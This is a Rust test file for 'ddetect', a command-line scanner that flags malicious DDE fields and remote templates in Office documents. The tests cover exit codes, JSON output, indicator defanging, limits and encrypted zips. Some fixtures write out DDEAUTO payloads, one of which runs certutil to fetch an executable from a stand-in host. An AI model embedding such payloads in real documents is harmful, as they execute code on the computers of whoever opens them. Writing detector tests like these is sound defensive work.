//! The command line from outside: exit statuses, formats, paths. What a document means is the
//! library's; here one malicious, one clean and one incomplete document are enough.

mod support;

use serde_json::Value;
use support::{Folder, Run, encrypted_zip, fields, harmless, malicious, run, run_with};

/// A limit that the documents here do not fit in, so that they are incomplete whatever they hold.
const TOO_SMALL: &str = "--limits=decoded-bytes=10";

fn names(rows: &[Value]) -> Vec<&str> {
    rows.iter()
        .map(|row| row["document"]["name"].as_str().unwrap())
        .collect()
}

fn rows(run: &Run) -> Vec<Value> {
    run.out
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

#[test]
fn the_status_is_that_of_the_worst_document() {
    let folder = Folder::new();
    let clean = folder.file("clean.docx", &harmless());
    let bad = folder.file("bad.docx", &malicious());
    let missing = folder.path("missing.docx");
    assert_eq!(run(&["scan", &clean]).status, 0);
    assert_eq!(run(&["scan", &clean, &bad]).status, 1);
    assert_eq!(run(&["scan", TOO_SMALL, &clean]).status, 2);
    assert_eq!(run(&["scan", &clean, &missing]).status, 3);
    // 1 wins over 3, 3 over 2.
    assert_eq!(run(&["scan", &missing, &bad]).status, 1);
    assert_eq!(run(&["scan", TOO_SMALL, &clean, &missing]).status, 3);
}

#[test]
fn fail_on_moves_the_lowest_verdict_that_counts() {
    let folder = Folder::new();
    let clean = folder.file("clean.docx", &harmless());
    let bad = folder.file("bad.docx", &malicious());
    let missing = folder.path("missing.docx");
    for fail_on in ["--fail-on=suspicious", "--fail-on=malicious"] {
        assert_eq!(run(&["scan", fail_on, TOO_SMALL, &clean]).status, 0);
        assert_eq!(run(&["scan", fail_on, &bad]).status, 1);
        assert_eq!(run(&["scan", fail_on, &missing]).status, 3);
    }
    assert_eq!(
        run(&["scan", "--fail-on=incomplete", TOO_SMALL, &clean]).status,
        2
    );
}

#[test]
fn mistakes_on_the_command_line_are_three_and_help_is_not_one() {
    for mistake in [
        &[][..],
        &["scan"],
        &["scan", "--no-such-option", "."],
        &["scan", "--format", "xml", "."],
        &["scan", "--fail-on", "clean", "."],
        &["scan", "-", "-"],
        &["no-such-task"],
    ] {
        let run = run(mistake);
        assert_eq!((run.status, run.out.as_str()), (3, ""), "{mistake:?}");
        assert!(!run.err.is_empty(), "{mistake:?}");
    }
    for fine in [
        &["--help"][..],
        &["scan", "--help"],
        &["--version"],
        &["limits"],
    ] {
        let run = run(fine);
        assert_eq!((run.status, run.err.as_str()), (0, ""), "{fine:?}");
        assert!(!run.out.is_empty(), "{fine:?}");
    }
    let version = run(&["--version"]).out;
    assert_eq!(
        version.trim(),
        concat!("ddetect ", env!("CARGO_PKG_VERSION"))
    );
}

#[test]
fn an_unknown_limit_lists_the_known_ones() {
    let run = run(&["scan", "--limits", "depth=3", "."]);
    assert_eq!(run.status, 3);
    for part in ["'depth'", "input-bytes", "decoded-bytes", "nesting"] {
        assert!(run.err.contains(part), "{part}: {}", run.err);
    }
}

#[test]
fn text_gives_the_verdict_first_and_then_what_to_know() {
    let folder = Folder::new();
    let bad = folder.file("bad.docx", &malicious());
    let run = run(&["scan", &bad]);
    let first = run.out.lines().next().unwrap();
    assert!(
        first.starts_with("MALICIOUS") && first.contains(&bad),
        "{first}"
    );
    for part in [
        "dde-auto (field)",
        r#"c:\windows\system32\cmd.exe /k calc.exe"#,
        "word/document.xml",
        "the document is opened",
        "T1559.002",
    ] {
        assert!(run.out.contains(part), "{part}: {}", run.out);
    }
    assert_eq!(run.err, "");
}

#[test]
fn addresses_are_defanged_where_they_are_no_quotation() {
    let document = fields([
        r#"DDEAUTO cmd "/c certutil -f http://evil.example.invalid/a.exe" it.em"#,
        r#"INCLUDETEXT "http://other.example.invalid/b.docx""#,
    ]);
    for verbose in ["--color=never", "--verbose"] {
        let run = run_with(&["scan", verbose, "-"], &document);
        let said = |label: &str| {
            let lines = run.out.lines().map(str::trim);
            lines
                .filter_map(|line| line.strip_prefix(label))
                .map(str::trim)
                .collect::<Vec<_>>()
        };
        let quoted = [said("command"), said("in file")].concat();
        assert_eq!(quoted.len(), 3, "{}", run.out);
        for line in quoted {
            assert!(line.contains("http://"), "{line}");
        }
        let safe = said("indicators");
        assert_eq!(safe.len(), 2, "{}", run.out);
        assert!(safe[0].contains("hxxp://evil[.]example[.]invalid/a.exe"));
        assert!(safe[1].contains("hxxp://other[.]example[.]invalid/b.docx"));
        assert_eq!(said("item"), ["it.em"]);
        for line in run.out.lines().map(str::trim) {
            let quotes = ["command", "in file", "starts"];
            if !quotes.iter().any(|label| line.starts_with(label)) {
                assert!(!line.contains("http://"), "{line}");
                assert!(!line.contains("example.invalid"), "{line}");
            }
        }
    }
}

#[test]
fn what_stands_in_the_file_is_always_shown() {
    let bad = run_with(&["scan", "-"], &malicious());
    let quoted = r#"in file     DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#;
    assert!(bad.out.contains(quoted), "{}", bad.out);
    let same = fields(["DDEAUTO cmd calc"]);
    let same = run_with(&["scan", "-"], &same);
    assert!(
        same.out.contains("in file     DDEAUTO cmd calc"),
        "{}",
        same.out
    );
    assert!(!same.out.contains("means"), "{}", same.out);
}

#[test]
fn a_template_of_this_computer_is_not_called_remote() {
    for (template, title) in [
        ("Normal.dotm", "(template)"),
        ("http://h.example/t.dotm", "(remote-template)"),
    ] {
        let document = format!("{{\\rtf1{{\\*\\template {template}}}x}}");
        let run = run_with(&["scan", "--verbose", "-"], document.as_bytes());
        assert!(run.out.contains(title), "{template}: {}", run.out);
    }
}

#[test]
fn what_is_skipped_is_said_in_words() {
    let document = b"{\\rtf1{\\object\\objemb{\\*\\objdata 00}}x}";
    let run = run_with(&["scan", "--verbose", "-"], document);
    let said = "skipped, as it cannot hold a link: 1 piece of unknown data";
    assert!(run.out.contains(said), "{}", run.out);
}

#[test]
fn findings_without_effect_are_ordered_by_score() {
    // More than are shown, the worse ones last.
    let links: Vec<_> = (0..12)
        .map(|number| format!(r#"HYPERLINK "https://example.com/{number}""#))
        .chain((0..4).map(|number| format!(r#"INCLUDEPICTURE "http://example.com/{number}.png""#)))
        .collect();
    let document = fields(links.iter().map(String::as_str));
    let json = run_with(&["scan", "--format=json", "-"], &document);
    let report: Value = serde_json::from_str(&json.out).unwrap();
    let mut expected: Vec<u64> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|finding| finding["score"].as_u64().unwrap())
        .filter(|score| *score < 50)
        .collect();
    assert!(expected.len() > 11 && !expected.is_sorted_by(|a, b| a >= b));
    expected.sort_by(|a, b| b.cmp(a));
    let text = run_with(&["scan", "-"], &document);
    let brief: Vec<_> = text.out.lines().filter(|l| l.starts_with("  - ")).collect();
    assert_eq!(brief.len(), 11, "{}", text.out);
    for (line, score) in brief.iter().zip(&expected[..10]) {
        assert!(line.ends_with(&format!(", score {score}")), "{line}");
    }
    let more = expected.len() - 10;
    let worst = expected[10];
    assert!(
        brief[10].starts_with(&format!("  - {more} more, the worst with score {worst} ")),
        "{}",
        brief[10]
    );
}

#[test]
fn a_limit_gap_names_the_limit_to_raise() {
    let folder = Folder::new();
    let clean = folder.file("clean.docx", &harmless());
    let run = run(&["scan", TOO_SMALL, &clean]);
    assert!(run.out.starts_with("INCOMPLETE"), "{}", run.out);
    assert!(run.out.contains("--limits decoded-bytes="), "{}", run.out);
}

#[test]
fn json_is_one_object_for_one_document_and_an_array_for_more() {
    let folder = Folder::new();
    let bad = folder.file("bad.docx", &malicious());
    let missing = folder.path("missing.docx");
    let json = |paths: &[&str]| -> Value {
        let run = run(&[&["scan", "--format", "json"], paths].concat());
        assert_eq!(run.err, "");
        serde_json::from_str(&run.out).unwrap()
    };
    let one = json(&[&bad]);
    assert_eq!(one["schema"], "ddetect/1");
    assert_eq!(one["verdict"], "malicious");
    assert_eq!(one["document"]["name"], bad.as_str());
    assert_eq!(one["findings"][0]["kind"], "dde-auto");
    assert!(one.get("shortened").is_none());
    let unread = json(&[&missing]);
    assert_eq!(unread["document"]["name"], missing.as_str());
    assert!(unread["error"].is_string());
    assert_eq!(json(&[&bad, &missing]).as_array().unwrap().len(), 2);
    assert_eq!(json(&[folder.root()]).as_array().unwrap().len(), 1);
}

#[test]
fn json_lines_go_on_after_a_path_that_cannot_be_read() {
    let folder = Folder::new();
    let missing = folder.path("missing.docx");
    let bad = folder.file("bad.docx", &malicious());
    let run = run(&["scan", "--format=jsonl", &missing, &bad]);
    let rows = rows(&run);
    assert_eq!(names(&rows), [&missing, &bad]);
    assert!(
        rows[0]["error"]
            .as_str()
            .is_some_and(|error| !error.is_empty())
    );
    assert!(rows[0].get("verdict").is_none());
    assert_eq!(rows[1]["verdict"], "malicious");
    assert_eq!(run.err, "");
}

#[test]
fn text_has_one_line_for_a_path_that_cannot_be_read() {
    let folder = Folder::new();
    let missing = folder.path("missing.docx");
    let clean = folder.file("clean.docx", &harmless());
    let run = run(&["scan", &missing, &clean]);
    assert_eq!(run.err.lines().count(), 1, "{}", run.err);
    assert!(run.err.contains(&missing));
    assert!(run.out.contains(&clean), "it goes on: {}", run.out);
    assert!(run.out.contains("1 could not be read"), "{}", run.out);
}

#[test]
fn standard_input_is_a_document() {
    let as_json = |arguments: &[&str], input: &[u8]| -> Value {
        let arguments = [&["scan", "--format=json"], arguments].concat();
        serde_json::from_str(&run_with(&arguments, input).out).unwrap()
    };
    let plain = as_json(&["-"], &malicious());
    assert_eq!(plain["document"]["name"], "-");
    assert_eq!(plain["verdict"], "malicious");
    let named = as_json(&["--stdin-name", "q.docx", "-"], &malicious());
    assert_eq!(named["document"]["name"], "q.docx");
    let cut = as_json(&["--limits=input-bytes=1k", "-"], &[b'x'; 5000]);
    assert_eq!(cut["verdict"], "incomplete");
    assert_eq!(cut["shortened"]["read_bytes"], 1025);
    assert_eq!(cut["shortened"]["file_bytes"], Value::Null);
}

#[test]
fn an_empty_file_is_clean() {
    let folder = Folder::new();
    let empty = folder.file("empty.docx", b"");
    let run = run(&["scan", "--format=json", &empty]);
    let report: Value = serde_json::from_str(&run.out).unwrap();
    assert_eq!(
        (run.status, &report["document"]["format"]),
        (0, &Value::from("empty"))
    );
}

#[test]
fn what_is_no_document_is_clean_and_says_so() {
    let folder = Folder::new();
    let clean = folder.file("clean.docx", &harmless());
    let empty = folder.file("empty.docx", b"");
    let junk = folder.file("junk", b"404 page not found");
    let line = |path: &str| {
        let run = run(&["scan", path]);
        assert_eq!(run.status, 0);
        run.out.trim_end().to_owned()
    };
    assert_eq!(line(&clean), format!("clean       {clean}"));
    assert_eq!(line(&junk), format!("clean       {junk}  (no document)"));
    assert_eq!(line(&empty), format!("clean       {empty}  (empty)"));
    let summary = |paths: &[&str]| {
        let run = run(&[&["scan"], paths].concat());
        run.out.lines().last().unwrap().to_owned()
    };
    let all = summary(&[folder.root()]);
    assert!(
        all.ends_with("3 clean, of which 2 are no documents"),
        "{all}"
    );
    let two = summary(&[&clean, &junk]);
    assert!(two.ends_with("2 clean, of which 1 is no document"), "{two}");
    let one = summary(&[&clean, &clean]);
    assert!(one.ends_with("2 clean"), "{one}");
    // What was not read may be anything.
    let unread = run(&["scan", "--limits=input-bytes=3", &junk]);
    assert!(!unread.out.contains("(no document)"), "{}", unread.out);
}

#[test]
fn a_file_above_the_input_limit_is_not_read_to_its_end() {
    let folder = Folder::new();
    let path = folder.path("huge.docx");
    // Sparse: 8 GiB that would not fit into memory if they were read.
    std::fs::File::create(&path)
        .unwrap()
        .set_len(8 << 30)
        .unwrap();
    let json = run(&["scan", "--format=json", "--limits=input-bytes=1m", &path]);
    let report: Value = serde_json::from_str(&json.out).unwrap();
    assert_eq!(json.status, 2);
    assert_eq!(report["shortened"]["read_bytes"], (1 << 20) + 1);
    assert_eq!(report["shortened"]["file_bytes"], 8_u64 << 30);
    assert_eq!(report["gaps"][0]["kind"], "limit");
    // Size and checksum are of what was read.
    assert_eq!(report["document"]["bytes"], (1 << 20) + 1);
    let read = folder.file("read", &vec![0; (1 << 20) + 1]);
    let read = run(&["scan", "--format=json", &read]);
    let read: Value = serde_json::from_str(&read.out).unwrap();
    assert_eq!(report["document"]["sha256"], read["document"]["sha256"]);
    let text = run(&["scan", "--limits=input-bytes=1m", &path]);
    assert!(text.out.contains("--limits input-bytes=8g"), "{}", text.out);
    assert!(
        text.out
            .contains("1048577 of 8589934592 bytes were read; size and SHA-256 are of these"),
        "{}",
        text.out
    );
}

#[test]
fn quiet_is_silent_about_clean_documents_only() {
    let folder = Folder::new();
    let clean = folder.file("clean.docx", &harmless());
    let bad = folder.file("bad.docx", &malicious());
    let missing = folder.path("missing.docx");
    let quiet = run(&["scan", "--quiet", &clean]);
    assert_eq!(
        (quiet.out.as_str(), quiet.err.as_str(), quiet.status),
        ("", "", 0)
    );
    let text = run(&["scan", "--quiet", &clean, &bad, &missing]);
    assert!(
        !text.out.contains("clean") && text.out.contains(&bad),
        "{}",
        text.out
    );
    assert!(text.err.contains(&missing));
    let lines = run(&["scan", "--quiet", "--format=jsonl", &clean, &bad, &missing]);
    assert_eq!(names(&rows(&lines)), [&bad, &missing]);
    let none = run(&["scan", "--quiet", "--format=jsonl", &clean]);
    assert_eq!((none.out.as_str(), none.status), ("", 0));
    let array = run(&["scan", "--quiet", "--format=json", folder.root(), TOO_SMALL]);
    assert_eq!(
        serde_json::from_str::<Vec<Value>>(&array.out)
            .unwrap()
            .len(),
        2
    );
}

#[test]
fn quiet_json_is_json_whatever_the_verdict() {
    let folder = Folder::new();
    let clean = folder.file("clean.docx", &harmless());
    let json = |path: &str, input: &[u8]| -> Value {
        let run = run_with(&["scan", "--quiet", "--format=json", path], input);
        assert_eq!(run.status, 0);
        serde_json::from_str(&run.out).unwrap()
    };
    assert_eq!(json(&clean, b"")["verdict"], "clean");
    assert_eq!(json("-", &harmless())["verdict"], "clean");
    assert_eq!(json(folder.root(), b""), Value::Array(Vec::new()));
}

#[test]
fn folders_are_searched_by_name_with_hidden_files() {
    let folder = Folder::new();
    let mut expected = Vec::new();
    // In the order in which they must come: by name within each folder.
    for name in [
        ".hidden.docx",
        "a/z.docx",
        "a.docx",
        "b/.c/d.docx",
        "b/e.docx",
    ] {
        expected.push(folder.file(name, &harmless()));
    }
    let run = run(&["scan", "--format=jsonl", folder.root()]);
    assert_eq!(names(&rows(&run)), expected);
}

#[test]
fn colour_follows_the_flag_and_no_color() {
    let folder = Folder::new();
    let bad = folder.file("bad.docx", &malicious());
    let colored = |arguments: &[&str], no_color: &str| {
        let all = [&["scan", bad.as_str()], arguments].concat();
        let output = support::command(&all)
            .env("NO_COLOR", no_color)
            .output()
            .unwrap();
        String::from_utf8(output.stdout).unwrap().contains('\u{1b}')
    };
    assert!(!colored(&[], ""), "not a terminal");
    assert!(!colored(&[], "1"));
    assert!(colored(&["--color=always"], ""));
    assert!(
        colored(&["--color=always"], "1"),
        "the flag is the nearer wish"
    );
    assert!(!colored(&["--color=never"], ""));
}

#[test]
fn what_a_terminal_would_obey_is_escaped() {
    let folder = Folder::new();
    let name = "a\u{1b}[31m\u{202e}.docx";
    let bad = folder.file(name, &malicious());
    let missing = folder.path("b\u{1b}[31m\u{202e}.docx");
    for format in ["text", "json", "jsonl"] {
        let run = run(&["scan", "--verbose", "--format", format, &bad, &missing]);
        let shown = [run.out, run.err].concat();
        assert!(
            !shown.contains(['\u{1b}', '\u{202e}']),
            "{format}: {shown:?}"
        );
    }
    let json = run(&["scan", "--format=json", &bad]);
    let report: Value = serde_json::from_str(&json.out).unwrap();
    assert_eq!(report["document"]["name"], bad.as_str());
}

#[test]
fn passwords_open_what_is_encrypted() {
    let folder = Folder::new();
    let zip = folder.file(
        "letter.zip",
        &encrypted_zip("bad.docx", &malicious(), "s3cret pass "),
    );
    let list = folder.file(
        "passwords",
        b"\xef\xbb\xbfwrong\r\n\r\ns3cret pass \nother\n",
    );
    let closed = run(&["scan", &zip]);
    assert_eq!(closed.status, 2, "{}", closed.out);
    assert!(closed.out.contains("--password"), "{}", closed.out);
    let wrong = run(&["scan", "--password=wrong", &zip]);
    assert_eq!(wrong.status, 2);
    assert!(
        wrong
            .out
            .contains("the password that was given did not open it"),
        "{}",
        wrong.out
    );
    let both = run(&["scan", "--password=wrong", "--password=no", &zip]);
    assert!(
        both.out.contains("none of the 2 passwords opened it"),
        "{}",
        both.out
    );
    let given = ["scan", "--password=wrong", "--password=s3cret pass ", &zip];
    assert_eq!(run(&given).status, 1);
    assert_eq!(run(&["scan", "--passwords-file", &list, &zip]).status, 1);
    let missing = folder.path("no-such-list");
    assert_eq!(run(&["scan", "--passwords-file", &missing, &zip]).status, 3);
    let binary = folder.file("binary", b"ok\n\xff\xfe\n");
    let refused = run(&["scan", "--passwords-file", &binary, &zip]);
    assert!(
        refused.status == 3 && refused.err.contains("UTF-8"),
        "{}",
        refused.err
    );
}

#[test]
fn a_list_of_passwords_has_a_size() {
    let folder = Folder::new();
    let zip = folder.file("letter.zip", &encrypted_zip("a.docx", &malicious(), "last"));
    let line = "x".repeat(1023) + "\n";
    let list = |lines: usize, end: &str| {
        let mut text = line.repeat(lines);
        text.truncate(text.len() - end.len());
        folder.file("list", (text + end).as_bytes())
    };
    let fits = list(1024, "\nlast");
    assert_eq!(run(&["scan", "--passwords-file", &fits, &zip]).status, 1);
    let too_long = list(1025, "\nlast");
    let refused = run(&["scan", "--passwords-file", &too_long, &zip]);
    assert_eq!((refused.status, refused.out.as_str()), (3, ""));
    assert!(refused.err.contains("more than 1 MiB"), "{}", refused.err);
    #[cfg(unix)]
    assert_eq!(
        run(&["scan", "--passwords-file", "/dev/zero", &zip]).status,
        3
    );
}

#[test]
fn a_limit_of_nothing_is_advised_upwards() {
    let folder = Folder::new();
    let clean = folder.file("clean.docx", &harmless());
    for limit in ["input-bytes", "decoded-bytes", "parts"] {
        let setting = format!("--limits={limit}=0");
        let run = run(&["scan", &setting, &clean]);
        assert_eq!(run.status, 2, "{limit}");
        let advice = format!("--limits {limit}=");
        assert!(run.out.contains(&advice), "{}", run.out);
        assert!(!run.out.contains(&format!("{advice}0")), "{}", run.out);
    }
}

#[test]
fn a_document_of_a_kind_that_is_not_read_is_no_part() {
    let run = run_with(&["scan", "-"], b"7z\xbc\xaf\x27\x1c hello");
    assert_eq!(run.status, 2);
    assert!(run.out.contains("look at this document"), "{}", run.out);
}

#[test]
fn the_presets_set_limits() {
    let folder = Folder::new();
    let big = folder.path("big.bin");
    // One byte above the gateway's 64 MiB, far below the default 128 MiB.
    std::fs::File::create(&big)
        .unwrap()
        .set_len((64 << 20) + 1)
        .unwrap();
    assert_eq!(run(&["scan", "--limits=gateway", &big]).status, 2);
    let raised = ["scan", "--limits=gateway", "--limits=input-bytes=65m", &big];
    assert_eq!(run(&raised).status, 0);
}

#[test]
fn a_reader_that_has_seen_enough_is_no_crash() {
    use std::io::{BufRead, BufReader, Write};
    let folder = Folder::new();
    for number in 0..200 {
        folder.file(&format!("{number}.docx"), &malicious());
    }
    for format in ["text", "json", "jsonl"] {
        let arguments = ["scan", "--format", format, "--verbose", folder.root()];
        let mut child = support::command(&arguments).spawn().unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let output = child.wait_with_output().unwrap();
        assert_eq!(output.status.code(), Some(1), "{format}");
        assert_eq!(String::from_utf8_lossy(&output.stderr), "", "{format}");
    }
    // Nobody was told that the document is clean. It comes when the reader is surely gone.
    let mut child = support::command(&["scan", "-"])
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    std::thread::sleep(std::time::Duration::from_millis(200));
    child.stdin.take().unwrap().write_all(&harmless()).unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(3));
}

#[cfg(unix)]
#[test]
fn symbolic_links_in_folders_are_not_followed() {
    use std::os::unix::fs::symlink;
    let folder = Folder::new();
    let elsewhere = Folder::new();
    let clean = folder.file("clean.docx", &harmless());
    let bad = elsewhere.file("bad.docx", &malicious());
    symlink(&bad, folder.path("link.docx")).unwrap();
    symlink(elsewhere.root(), folder.path("links")).unwrap();
    symlink(folder.root(), folder.path("round")).unwrap();
    symlink("nowhere", folder.path("broken")).unwrap();
    let walked = run(&["scan", "--format=jsonl", folder.root()]);
    assert_eq!(
        (names(&rows(&walked)), walked.status),
        (vec![clean.as_str()], 0)
    );
    assert!(walked.err.contains("4 symbolic links"), "{}", walked.err);
    // One that is itself given is the caller's wish.
    assert_eq!(run(&["scan", &folder.path("link.docx")]).status, 1);
}

#[cfg(unix)]
#[test]
fn a_pipe_in_a_folder_does_not_hang() {
    let folder = Folder::new();
    let pipe = folder.path("a-pipe");
    let made = std::process::Command::new("mkfifo").arg(&pipe).status();
    assert!(
        made.is_ok_and(|status| status.success()),
        "mkfifo is part of POSIX"
    );
    let clean = folder.file("clean.docx", &harmless());
    for path in [folder.root(), &pipe] {
        let run = run(&["scan", "--format=jsonl", path]);
        assert_eq!(run.status, 3);
        let rows = rows(&run);
        assert_eq!(rows[0]["document"]["name"], pipe.as_str());
        assert!(
            rows[0]["error"]
                .as_str()
                .unwrap()
                .contains("not a regular file")
        );
        assert_eq!(rows.get(1).is_some(), path == folder.root());
    }
    assert_eq!(run(&["scan", &clean, "/dev/zero"]).status, 3);
}
